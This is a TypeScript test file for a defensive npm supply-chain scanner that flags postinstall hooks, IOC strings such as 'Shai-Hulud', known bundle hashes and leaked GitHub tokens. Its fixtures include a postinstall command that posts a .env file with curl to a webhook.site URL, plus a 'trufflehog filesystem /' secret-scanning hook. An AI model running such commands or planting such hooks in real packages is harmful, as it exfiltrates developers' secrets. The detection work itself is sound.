import { describe, it, expect, beforeEach, afterEach } from 'vitest';
import { join, dirname } from 'node:path';
import { createHash } from 'node:crypto';
import { mkdirSync, writeFileSync, rmSync, existsSync } from 'node:fs';
import { scanFiles, inspectManifest, looksLikeDocumentation } from '../../src/core/file-scanner.js';

const testDir = join(process.cwd(), 'test', 'fixtures', 'file-scanner-test');
const nodeModules = join(testDir, 'node_modules');

const PAYLOAD = 'console.log("payload stand-in");\n';
const PAYLOAD_HASH = createHash('sha256').update(PAYLOAD).digest('hex');
const FAKE_TOKEN = `ghp_${'a'.repeat(36)}`;

function writeFixture(relativePath: string, content: string): string {
  const path = join(testDir, relativePath);
  mkdirSync(dirname(path), { recursive: true });
  writeFileSync(path, content);
  return path;
}

function writeManifest(relativeDir: string, manifest: Record<string, unknown>): string {
  return writeFixture(join(relativeDir, 'package.json'), JSON.stringify(manifest));
}

describe('inspectManifest', () => {
  it('should flag a postinstall script that runs the bundle', () => {
    const result = inspectManifest('pkg/package.json', {
      name: 'evil',
      scripts: { postinstall: 'node bundle.js' },
    });

    expect(result.suspiciousScripts).toEqual([
      { category: 'suspicious-script', path: 'pkg/package.json', script: 'node bundle.js' },
    ]);
    expect(result.suspiciousFiles).toEqual([]);
  });

  it('should ignore harmless postinstall scripts', () => {
    const result = inspectManifest('pkg/package.json', { scripts: { postinstall: 'node-gyp rebuild' } });

    expect(result.suspiciousScripts).toEqual([]);
  });

  it('should report the first IOC string found in the manifest', () => {
    const result = inspectManifest('pkg/package.json', {
      name: 'evil',
      scripts: { postinstall: 'curl -d @.env https://webhook.site/bb8ca5f6-4175-45d2-b042-fc9ebb8170b7' },
    });

    expect(result.suspiciousScripts).toHaveLength(1);
    expect(result.suspiciousFiles).toEqual([
      { category: 'suspicious-file', kind: 'ioc', path: 'pkg/package.json', detail: 'webhook.site', packageName: 'evil' },
    ]);
  });

  it('should match IOC strings case-insensitively', () => {
    const result = inspectManifest('pkg/package.json', { keywords: ['Shai-Hulud'] });

    expect(result.suspiciousFiles).toEqual([
      { category: 'suspicious-file', kind: 'ioc', path: 'pkg/package.json', detail: 'Shai-Hulud', packageName: 'unknown' },
    ]);
  });

  it('should flag a GitHub token outside documentation fields', () => {
    const result = inspectManifest('pkg/package.json', { name: 'leaky', config: { token: FAKE_TOKEN } });

    expect(result.suspiciousFiles).toEqual([
      {
        category: 'suspicious-file',
        kind: 'leaked-token',
        path: 'pkg/package.json',
        detail: 'Potential GitHub token detected',
        packageName: 'leaky',
      },
    ]);
  });

  it('should not flag tokens in README-like content', () => {
    expect(inspectManifest('a/package.json', { readme: `export GH_TOKEN=${FAKE_TOKEN}` }).suspiciousFiles).toEqual([]);
    expect(
      inspectManifest('b/package.json', { description: 'CLI', example: `--token ${FAKE_TOKEN}` }).suspiciousFiles
    ).toEqual([]);
  });

  it('should not flag tokens that are too short', () => {
    const result = inspectManifest('pkg/package.json', { config: { token: `ghp_${'a'.repeat(35)}` } });

    expect(result.suspiciousFiles).toEqual([]);
  });
});

describe('looksLikeDocumentation', () => {
  it('should need both description and example', () => {
    expect(looksLikeDocumentation('{"description":"x"}')).toBe(false);
    expect(looksLikeDocumentation('{"description":"an example"}')).toBe(true);
    expect(looksLikeDocumentation('{"documentation":"x"}')).toBe(true);
  });
});

describe('scanFiles', () => {
  beforeEach(() => {
    if (existsSync(testDir)) {
      rmSync(testDir, { recursive: true });
    }
    mkdirSync(testDir, { recursive: true });
  });

  afterEach(() => {
    if (existsSync(testDir)) {
      rmSync(testDir, { recursive: true });
    }
  });

  it('should return nothing without node_modules', () => {
    writeManifest('.', { name: 'root', scripts: { postinstall: 'node bundle.js' } });

    expect(scanFiles(testDir)).toEqual({ suspiciousFiles: [], suspiciousScripts: [] });
  });

  it('should flag bundle.js files whose digest matches at any depth', () => {
    const shallow = writeFixture('node_modules/a/bundle.js', PAYLOAD);
    const deep = writeFixture('node_modules/.pnpm/b@1.0.0/node_modules/b/dist/bundle.js', PAYLOAD);
    writeFixture('node_modules/c/bundle.js', `${PAYLOAD}// changed\n`);
    writeFixture('node_modules/d/other.js', PAYLOAD);

    const result = scanFiles(testDir, { bundleHashes: [PAYLOAD_HASH] });

    expect(result.suspiciousFiles).toEqual([
      { category: 'suspicious-file', kind: 'bundle-hash', path: deep, detail: PAYLOAD_HASH },
      { category: 'suspicious-file', kind: 'bundle-hash', path: shallow, detail: PAYLOAD_HASH },
    ]);
  });

  it('should accept digests in upper case', () => {
    writeFixture('node_modules/a/bundle.js', PAYLOAD);

    const result = scanFiles(testDir, { bundleHashes: [PAYLOAD_HASH.toUpperCase()] });

    expect(result.suspiciousFiles).toHaveLength(1);
  });

  it('should skip files above the size limit', () => {
    writeFixture('node_modules/a/bundle.js', PAYLOAD);

    const result = scanFiles(testDir, { bundleHashes: [PAYLOAD_HASH], maxFileSize: PAYLOAD.length - 1 });

    expect(result.suspiciousFiles).toEqual([]);
  });

  it('should not flag bundle.js under the default digest', () => {
    writeFixture('node_modules/a/bundle.js', PAYLOAD);

    expect(scanFiles(testDir).suspiciousFiles).toEqual([]);
  });

  it('should inspect every installed package.json and skip invalid ones', () => {
    const evil = writeManifest('node_modules/evil', { name: 'evil', scripts: { postinstall: 'trufflehog filesystem /' } });
    writeManifest('node_modules/safe', { name: 'safe', scripts: { postinstall: 'node install.js' } });
    writeFixture('node_modules/broken/package.json', '{ not json');

    const result = scanFiles(testDir);

    expect(result.suspiciousScripts).toEqual([
      { category: 'suspicious-script', path: evil, script: 'trufflehog filesystem /' },
    ]);
    expect(result.suspiciousFiles).toEqual([
      { category: 'suspicious-file', kind: 'ioc', path: evil, detail: 'trufflehog', packageName: 'evil' },
    ]);
  });

  it('should report bundle matches before manifest findings', () => {
    const bundle = writeFixture('node_modules/z/bundle.js', PAYLOAD);
    const manifest = writeManifest('node_modules/a', { name: 'a', config: { token: FAKE_TOKEN } });

    const result = scanFiles(testDir, { bundleHashes: [PAYLOAD_HASH] });

    expect(result.suspiciousFiles.map(finding => [finding.kind, finding.path])).toEqual([
      ['bundle-hash', bundle],
      ['leaked-token', manifest],
    ]);
  });
});
